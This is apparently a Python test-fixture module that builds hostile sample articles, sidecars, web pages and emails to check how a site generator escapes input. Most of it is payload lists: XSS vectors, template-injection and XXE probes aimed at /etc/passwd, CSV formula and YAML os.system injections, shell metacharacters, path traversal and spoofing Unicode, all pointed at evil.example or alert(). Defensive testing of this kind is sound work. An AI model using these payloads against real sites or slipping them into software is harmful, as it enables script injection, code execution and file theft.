"""Seeds that wish a site ill: what markup, feeds, data and letters can do, in every place of a seed and its sidecar.

All of it is invented. What would run calls `alert`, and what would be loaded stands at `evil.example`.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Callable

EVIL = "https://evil.example"
HTML = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert`1`>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '"><img src=x onerror=alert(1)>',
    "`><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f"<iframe src={EVIL}/></iframe>",
    "<object data=javascript:alert(1)></object>",
    f"<embed src={EVIL}/x.swf>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css'; body {{ display: none }}</style>",
    f'<p style="background: url({EVIL}/x.png)">x</p>',
    "<plaintext>",
    "<xmp>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2039script\u203aalert(1)\u2039/script\u203a \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<a id=ran name=content>x</a><img name=getElementById>",
)
SVG = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    f"<svg><use href={EVIL}/x.svg#x></use></svg>",
    f"<svg><image href={EVIL}/x.png></image></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    '[x](JaVaScRiPt:alert(1) "t")',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![x]({EVIL}/x.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html <script>alert(1)</script> ```",
    "*<img src=x onerror=alert(1)>*",
    "| a | <script>alert(1)</script> |",
    "{: onclick=alert(1) }",
    "[^1]: <script>alert(1)</script>",
    "\\<script\\>alert(1)\\</script\\>",
    "[TOC] [x][y] ![][z] <!-- x",
    "{filename}/../siteconf.py {static}/../../etc/passwd {attach}x |filename|x",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% import 'os' as os %}{{ os }}",
    "{{ config.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}",
    "{% endblock %}{% extends 'x' %}",
    "{# {{ }} #} %} }}",
    "${7*7} #{7*7} <%= 7*7 %> {{{x}}}",
    "%(title)s %s %n {0} {title.__class__} $title",
)
DATA = (
    '"}</script><script>alert(1)</script>',
    '\\"},{"@type":"Person","url":"javascript:alert(1)"}',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "</entry></feed><script>alert(1)</script>",
    "]]></content><entry><id>x</id></entry><![CDATA[",
    '<!ENTITY x "y">&x;&nbsp;&bogus;&#0;&#xD800;',
    "=cmd|' /C calc'!A0",
    '+1+1,"x""\n@SUM(A1:A9);\t-2',
    "x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR",
    "x\nATTENDEE:mailto:x@evil.example",
    'x\\nDTSTART:20260101;\\,;:"',
    "x\r\nER  - \r\nTY  - JOUR",
    "},\n@article{x, title = {y}}\\input{/etc/passwd}\\write18{id}",
    "x\nAllow: /\nSitemap: https://evil.example/sitemap.xml",
    "</loc></url><url><loc>https://evil.example/",
    'x"]\n[[hide]]\ntext = "y',
    "'''\"\"\"\\\ntitle = 1 # x",
    "x: y\n---\n- &a *a\n!!python/object:os.system",
    "../../../../etc/passwd ..\\..\\x C:\\x \\\\host\\share",
    "a;b|c&d$(id)`id`",
    "\x1b]0;x\x07\x1b[2J\x1b[31mfailed: all\x1b[0m",
)
LETTERS = (
    "\u202egnp.exe\u202c",
    "\u2066\u202e\u2069\u202d\u202a\u202b unclosed",
    "\u200f\u200e\u061c mark",
    "p\u0430yp\u0430l \u0391na \u0410na Rui\u0437",
    "zero\u200bwidth\u200c\u200djoin\u2060er\ufeff",
    "nul\x00byte",
    "controls \x01\x02\x08\x0b\x0c\x0e\x1f\x7f\x80\x85\x9f end",
    "\ud800 lone \udfff surrogate \udc00\ud800",
    "\ufffe\uffff\ufdd0\U0001ffff no letters",
    "four bytes \U0001f9f1\U0001f469\u200d\U0001f680\U00010348\U0010ffff",
    "cafe\u0301 caf\u00e9 \ufb01 \u212b \u1e9b\u0323 \u0130i\u0131 \u00df",
    "z" + "\u0300\u0301\u0302\u0316" * 60 + "algo",
    "\ufdfa" * 20,
    "tag\U000e0001\U000e0068\U000e0069\U000e007f letters",
    "\u2028line\u2029paragraph",
    "\u3164\u115f\u1160\uffa0 fillers \u00ad soft",
    "\ue000\uf8ff private \U000f0000",
    "\u0c1c\u0c4d\u0c1e\u200c\u0c3e \u0627\u0644\u062c\u062f\u0627\u0631",
    "\u201c\u201d\u201e\u00ab\u00bb\u300c\u300d\u2018\u2019\u201a\u2039 marks",
    "\u201cnever closed",
    "1\u20441\u00b2 \u2167 \u0663 \u3007 \u2460 \U0001d7d9",
)
# Each stands a dozen times in its article.
SIZES = (
    "word " * 4_000,
    "W" * 50_000,
    "\u201ca\u201d " * 2_000,
    '"' * 2_000,
    "(" * 2_000 + ")" * 2_000,
    "<b>" * 2_000,
    "&amp;" * 2_000,
    "{{" * 2_000,
    "> " * 300 + "deep",
    "on Monday 3 May 2026, " * 300,
    "Ana Ruiz said she said he said " * 300,
    "\U0001f9f1" * 4_000,
    "a\u0301" * 4_000,
)
DATES = (
    "at midnight on 31 December 9999",
    "at 24:00 on December 31, 9999",
    "at 11:59 p.m. EST on 31 December 9999",
    "at 0:01 a.m. Tokyo time on 1 January 0001",
    "on 1 January 1 at noon GMT",
    "on 31 February 2026 at 25:61",
    "on 0 May 2026",
    "in the year 0000",
    "in 99999999999999999999",
    "99999999999999999999 years ago",
    "in 10,000 centuries' time",
    "from 31 December 9999 to 1 January 10000",
    "on the 99th of Octember",
    "1/1/1 2/2/2 3/3/3",
    "at -1:-1 +99:99 on 2026-99-99",
)
NUMBERS = (
    "9" * 5_000 + " pounds",
    "0." + "0" * 5_000 + "1 per cent",
    "1e999999 dollars",
    "-0 to -1 per cent",
    "between 9 and 1 million billion trillion quadrillion euros",
    "NaN and Infinity kilometres",
    "1,2,3,4,5,6,7,8 people",
    "\u0663\u0664 people and \uff11\uff12 boats and \u00bd a \u2153",
)
SIZE = "size"
PAYLOADS = {"html": HTML, "svg": SVG, "markdown": MARKDOWN, "template": TEMPLATES, "data": DATA, "letters": LETTERS}
PAYLOADS |= {"dates": DATES, "numbers": NUMBERS, SIZE: SIZES}
# What an address may hold as it is; another one is refused.
SAFE = "/:?#[]@!$&'()*+,;=%"


def toml(text: str) -> str:
    """Return a text as TOML writes it; a lone half of a letter, which it cannot have, as an escape that is refused."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f").replace("\ud800", "\\ud800")


def article(words: str) -> str:
    """Return an article that has the words where a headline, a byline, a speaker, a role, a place and a cue are."""
    return f"""{words}

By {words}

HARROW BAY \u2014 The wall {words} fell on Monday, said Ana Ruiz, the mayor of {words}.

\u201cThe wall {words} was old,\u201d said Jo {words} Marsh, a mason from {words}. It cost 4.5 million pounds.

The {words} wall was begun on 3 March 2024. The gate opened {words}, and it cost {words}.

It was not clear why {words} fell. The work took {words} 40 days.
"""


PLAIN = article("of stone").replace("of stone\n\nBy of stone", "Wall falls")


def text(words: str) -> dict[str, str]:
    """Return a plain seed whose article is full of the words."""
    return {".txt": article(words), ".toml": 'licence = "own"\npublished = 2026-03-04\n'}


def sidecar(words: str) -> dict[str, str]:
    """Return a seed whose sidecar has the words in every key that takes any."""
    told = [f"{key} = {toml(words)}" for key in ("title", "publisher", "author", "licence", "summary")]
    told += (f"category = {toml('C ' + words)}", f"tags = [{toml('T ' + words)}]", "published = 2026-03-04")
    told += (f"url = {toml(f'{EVIL}/?q=' + quote(words, safe=SAFE, errors='replace'))}",)
    return {".txt": PLAIN, ".toml": "\n".join(told)}


def edits(words: str) -> dict[str, str]:
    """Return a seed whose items an editor gave the words."""
    say = toml(words)
    told = f"""licence = "own"
published = 2026-03-04
[[quotation]]
text = "The wall of stone was old"
speaker = {say}
role = {say}
reason = {say}
[[person]]
text = "Ana Ruiz"
role = {say}
reason = {say}
[[note]]
text = {say}
[[correction]]
date = 2026-03-05
wrong = {say}
right = {say}
"""
    return {".txt": PLAIN, ".toml": told}


def markdown(words: str) -> dict[str, str]:
    """Return a Markdown seed with the words in its header and its text."""
    flat = " ".join(words.split())
    return {
        ".md": f"Title: {flat}\nAuthors: {flat}\nDate: 2026-03-04\nLicence: own\nTags: T {flat}\n\n{article(words)}"
    }


def webpage(words: str) -> dict[str, str]:
    """Return a saved web page with the words raw in its head, its article and its data for machines."""
    data = json.dumps({"@type": "NewsArticle", "headline": words, "author": {"name": words}, "url": words})
    body = "".join(f"<p>{part}</p>" for part in article(words).split("\n\n")[2:])
    page = f"""<!doctype html><html lang=en><head><meta charset=utf-8><title>{words}</title>
<meta property=og:site_name content="{words}"><meta name=author content="{words}">
<script type="application/ld+json">{data}</script></head>
<body><article><h1>{words}</h1>{body}</article></body></html>"""
    return {".html": page, ".toml": 'licence = "own"\n'}


def mail(words: str) -> dict[str, str]:
    """Return a mail with the words in its headers and its text."""
    flat = " ".join(words.split())
    head = f"Subject: {flat}\nFrom: {flat} <press@evil.example>\nDate: Wed, 4 Mar 2026 10:00:00 +0000\n"
    kind = "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n"
    return {".eml": f"{head}{kind}\n{article(words)}", ".toml": 'licence = "own"\n'}


# Each payload stands in the first three; by its kind and turn in one of the others.
PLACES: dict[str, Callable[[str], dict[str, str]]] = {"text": text, "sidecar": sidecar, "edits": edits}
FORMS: dict[str, Callable[[str], dict[str, str]]] = {"markdown": markdown, "webpage": webpage, "mail": mail}


def cases() -> dict[str, dict[str, bytes]]:
    """Return the files of each case by its name, each file by its suffix."""
    found = {}
    for kind, payloads in PAYLOADS.items():
        for number, words in enumerate(payloads):
            form = list(FORMS)[number % len(FORMS)]
            places = PLACES | ({} if kind == SIZE else {form: FORMS[form]})
            for place, made in ({"text": text} if kind == SIZE else places).items():
                files = made(words).items()
                found[f"{kind}-{number}-{place}"] = {
                    suffix: data.encode("utf-8", "surrogatepass") for suffix, data in files
                }
    return found


def names() -> dict[str, str]:
    """Return seeds whose files' names are the payloads that a name can be, by these names."""
    fit = [words for kind in ("html", "svg", "template", "data", "letters") for words in PAYLOADS[kind]]
    fit = [words.replace("/", "\u2215") for words in fit]
    return {
        f"2026-03-04-n{number}-{words}.txt": PLAIN
        for number, words in enumerate(fit)
        if words.isprintable() and len(words.encode("utf-8", "surrogatepass")) < 200
    }
